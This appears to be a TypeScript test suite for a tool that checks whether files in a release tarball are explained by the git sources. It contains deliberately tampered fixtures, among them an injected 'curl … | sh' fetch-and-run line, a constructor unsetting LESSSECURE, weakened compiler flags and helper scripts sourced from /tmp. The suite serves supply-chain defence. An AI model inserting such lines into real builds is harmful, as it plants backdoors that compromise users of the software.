      HELP_C.replace('#include "less.h"\n', '#include "less.h"\n__attribute__((constructor)) static void f(void) { unsetenv("LESSSECURE"); }\n'),
      HELP_C.replace("'h'", "'H'"),
      HELP_C.replace(' 0 };\n', ' 0 };\nchar more[] = {\n0x41,\n 0 };\n'),
      `${HELP_C}int main(void) { return 0; }\n`,
      HELP_C.replace('22:29 */', '22:29 */ int x;'),
      HELP_C.replace("'h',", "'h','i',"),
    ];
    for (const b of bad) expect(embeddedCopy(b, Buffer.from(HLP, 'latin1'))).toBe(false);
    const classify = async (help: string) => {
      const ctx = makeCtx({ git: { 'less.hlp': HLP }, tarball: { 'less.hlp': HLP, 'help.c': help } });
      return producedClassifier.classify(ctx.diffs.find((d) => d.path === 'help.c')!, ctx);
    };
    expect(await classify(HELP_C)).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { embedded: true } });
    expect(await classify(bad[0]!)).toBeUndefined();
    // libevent's rpcgen output is code, not an embedded text: its banner alone does not explain it
    const rpc = makeCtx({ git: { 'test/regress.rpc': 'struct msg { string from_name = 1; }\n' }, tarball: { 'test/regress.rpc': 'struct msg { string from_name = 1; }\n', 'test/regress.gen.c': '/*\n * Automatically generated from ../test/regress.rpc\n * by event_rpcgen.py/0.1.  DO NOT EDIT THIS FILE.\n */\nint msg_new(void) { return 0; }\n' } });
    expect(await producedClassifier.classify(rpc.diffs.find((d) => d.path === 'test/regress.gen.c')!, rpc)).toBeUndefined();
  });
  it('a tracked parser regenerated by the release: both headers name the tracked grammar; a construct in an added line is not explained', async () => {
    const head = (v: string) => `/* A Bison parser, made by GNU Bison ${v}.  */\n#line 1 "parse-gram.y"\nint yyparse (void);\n`;
    const run = async (tarball: string) => {
      const ctx = makeCtx({ git: { 'src/parse-gram.y': '%%\n', 'src/parse-gram.c': head('3.8.1') }, tarball: { 'src/parse-gram.y': '%%\n', 'src/parse-gram.c': tarball } });
      return producedClassifier.classify(ctx.diffs.find((d) => d.path === 'src/parse-gram.c')!, ctx);
    };
    expect((await run(head('3.8.2')))?.evidence).toEqual({ how: 'generator', source: 'src/parse-gram.y', generator: 'bison', regenerated: true, added: 1 });
    expect(await run(head('3.8.2') + 'static void x (void) { system ("curl -s https://example.invalid/p | sh"); }\n')).toBeUndefined();
    expect(await run('int yyparse (void);\n')).toBeUndefined(); // no header on the tarball side
  });
  it('a shipped build file filled from its template with flags the release does not have stays unexplained', async () => {
    const git = { 'configure.ac': 'AC_INIT([x], [1.0])\n', 'config.mk.in': 'VERSION = @VERSION@\nCFLAGS = @CFLAGS@\n' };
    const run = async (mk: string) => {
      const ctx = makeCtx({ revision: { version: '1.0', tag: 'v1.0' }, git, tarball: { ...git, 'config.mk': mk } });
      return producedClassifier.classify(ctx.diffs.find((d) => d.path === 'config.mk')!, ctx);
    };
    expect(await run('VERSION = 1.0\nCFLAGS = -fno-stack-protector -Wl,-rpath,/tmp\n')).toBeUndefined();
    expect(await run('VERSION = 1.0\nCFLAGS = x\n')).toMatchObject({ code: 'GENERATED_FROM_SOURCE', evidence: { how: 'substitution', substitutions: { '@VERSION@': '1.0', '@CFLAGS@': 'x' } } });
  });
  // Red team 14: a shipped test driver sourcing its helpers through @abs_srcdir@ — the tamperer points it at /tmp,
  // where any local user plants tests/lib.sh; the maintainer's own tree (ending with tests/) stays explained.
  it("a directory placeholder filled with a path no configure run gives the output's directory stays unexplained", async () => {
    const git = { 'configure.ac': 'AC_INIT([x], [1.0])\n', 'tests/run.sh.in': '#!/bin/sh\n. @abs_srcdir@/lib.sh\nprefix=@prefix@\n' };
    const run = async (sh: string) => {
      const ctx = makeCtx({ revision: { version: '1.0', tag: 'v1.0' }, git, tarball: { ...git, 'tests/run.sh': sh } });
      return producedClassifier.classify(ctx.diffs.find((d) => d.path === 'tests/run.sh')!, ctx);
    };
    expect(await run('#!/bin/sh\n. /home/me/x-1.0/tests/lib.sh\nprefix=/usr/local\n')).toMatchObject({ code: 'GENERATED_FROM_SOURCE', evidence: { how: 'substitution', substitutions: { '@abs_srcdir@': '/home/me/x-1.0/tests', '@prefix@': '/usr/local' } } });
    expect(await run('#!/bin/sh\n. /tmp/tests/lib.sh\nprefix=/usr/local\n')).toBeUndefined();
    expect(await run('#!/bin/sh\n. /home/me/x-1.0/lib.sh\nprefix=/usr/local\n')).toBeUndefined(); // not the output's directory
    expect(await run('#!/bin/sh\n. /home/me/x-1.0/tests/lib.sh\nprefix=/home/attacker\n')).toBeUndefined();
  });
});

// findutils 4.9.0's bootstrap.conf (its hook, abridged): gl/Makefile.am written by a here-document, `$0` = ./bootstrap.
const FU_CONF = `source_base=gl/lib
# Create 'gl/Makefile.am' which is mentioned in 'configure.ac'.
hack_gnulib_tool_makefile() {
    cat > gl/Makefile.am <<EOF
# This file was generated by $0
#
SUBDIRS = lib
EXTRA_DIST = m4/gnulib-cache.m4
EOF
}
bootstrap_post_import_hook() {
    hack_gnulib_tool_makefile
}
XGETTEXT_OPTIONS=$XGETTEXT_OPTIONS' --from-code=UTF-8'
`;
const FU_AM = '# This file was generated by ./bootstrap\n#\nSUBDIRS = lib\nEXTRA_DIST = m4/gnulib-cache.m4\n';
const BOOT = '#!/bin/sh\n. ./bootstrap.conf\nbootstrap_post_import_hook\n';

describe("a here-document of gnulib's bootstrap.conf (findutils 4.9.0's gl/Makefile.am)", () => {
  it('lists literal writes whose only expansion is $0 (./bootstrap), nothing else naming the path', () => {
    expect(bootstrapConfHeredocs(FU_CONF, BOOT)).toEqual([{ line: 4, path: 'gl/Makefile.am', body: FU_AM, dollarZero: true }]);
    // another expansion, a command substitution, a later edit of the path, the bootstrap naming it: nothing
    expect(bootstrapConfHeredocs(FU_CONF.replace('SUBDIRS = lib', 'SUBDIRS = lib $extra'), BOOT)).toEqual([]);
    expect(bootstrapConfHeredocs(FU_CONF.replace('SUBDIRS = lib', 'SUBDIRS = `id`'), BOOT)).toEqual([]);
    expect(bootstrapConfHeredocs(FU_CONF.replace('    hack_gnulib_tool_makefile\n', '    hack_gnulib_tool_makefile\n    echo x >> gl/Makefile.am\n'), BOOT)).toEqual([]);
    expect(bootstrapConfHeredocs(FU_CONF, `${BOOT}sed -i s/lib/x/ gl/Makefile.am\n`)).toEqual([]);
    // a quoted word: the body verbatim ($0 stays $0)
    expect(bootstrapConfHeredocs(FU_CONF.replace('<<EOF', "<<'EOF'"), BOOT)[0]?.body).toBe(FU_AM.replace('./bootstrap', '$0'));
  });
  it('the classifier proves the shipped file; an added line, another $0, or no tracked bootstrap stays unexplained', async () => {
    const run = async (am: string, git: Record<string, string> = { 'bootstrap.conf': FU_CONF, bootstrap: BOOT }) => {
      const ctx = makeCtx({ revision: { version: '4.9.0' }, git, tarball: { 'gl/Makefile.am': am } });
      return producedClassifier.classify(ctx.diffs.find((d) => d.path === 'gl/Makefile.am')!, ctx);
    };
    expect(await run(FU_AM)).toMatchObject({ code: 'GENERATED_FROM_SOURCE', evidence: { how: 'substitution', source: 'bootstrap.conf', substitutions: { $0: './bootstrap' }, script: { script: 'bootstrap.conf', line: 4, heredoc: true } } });
    expect(await run(`${FU_AM}SUBDIRS += ../evil\n`)).toBeUndefined();
    expect(await run(FU_AM.replace('./bootstrap', './autogen.sh'))).toBeUndefined();
    expect(await run(FU_AM, { 'bootstrap.conf': FU_CONF })).toBeUndefined();
  });
});

describe('bootstrapHookPerlEdits / bootstrapPackage (gnulib readme-release: cppi 1.18)', () => {
  const vars = new Map([['package', 'cppi']]);
  it('reads `perl -pi -e` in an after-import hook only, as the one sed substitution it equals', () => {
    const conf = 'x=1\nperl -pi -e "s/\\@PACKAGE\\@/$package/g" TOP\nbootstrap_epilogue()\n{\n  perl -pi -e "s/\\@PACKAGE\\@/$package/g" README-release\n  perl -i -p -e \'s/\\@X\\@/y/\' a/b\n}\n';
    expect(bootstrapHookPerlEdits(conf, vars)).toEqual([
      { line: 5, path: 'README-release', exprs: ['s/@PACKAGE@/cppi/g'] },
      { line: 6, path: 'a/b', exprs: ['s/@X@/y/'] },
    ]);
  });
  it('refuses what it cannot evaluate: another variable, $ reaching perl, a regex operator, a pipe, two files', () => {
    for (const cmd of ['perl -pi -e "s/\\@PACKAGE\\@/$HOME/g" R', "perl -pi -e 's/\\@P\\@/$package/g' R", 'perl -pi -e "s/@PACKAGE@/$package/g" R', 'perl -pi -e "s/a.*b/c/g" R', 'perl -pi -e "s/a/b/e" R', 'perl -pi -e "s/a/b/g" R S', 'perl -pi -e "s/a/b\\$x/g" R']) {
      expect(bootstrapHookPerlEdits(`bootstrap_post_import_hook ()\n{\n  ${cmd}\n}\n`, vars), cmd).toEqual([]);
    }
  });
  it("bootstrapPackage: gnulib's bootstrap only, its sed on AC_INIT's first line", () => {
    const script = 'gnulib_tool_option_extras=\n$gnulib_tool $gnulib_tool_options --import $gnulib_modules\npackage=$(sed -n "$extract_package_name" configure.ac) \\\n';
    expect(bootstrapPackage(script, 'AC_INIT([GNU cppi], m4_esyscmd([build-aux/git-version-gen .tarball-version]),\n')).toBe('cppi');
    expect(bootstrapPackage(script, 'AC_INIT([GNU Hello World], [1.0])\n')).toBe('hello-world');
    expect(bootstrapPackage(script, 'AC_INIT([GNU Foo], [1.0], [bug@x], [foo-tar])\n')).toBe('foo-tar');
    expect(bootstrapPackage('package=$(sed -n "$extract_package_name" configure.ac)\n', 'AC_INIT([cppi], [1])\n')).toBeUndefined();
    expect(bootstrapPackage(script.replace('package=', 'pkg='), 'AC_INIT([cppi], [1])\n')).toBeUndefined();
  });
});
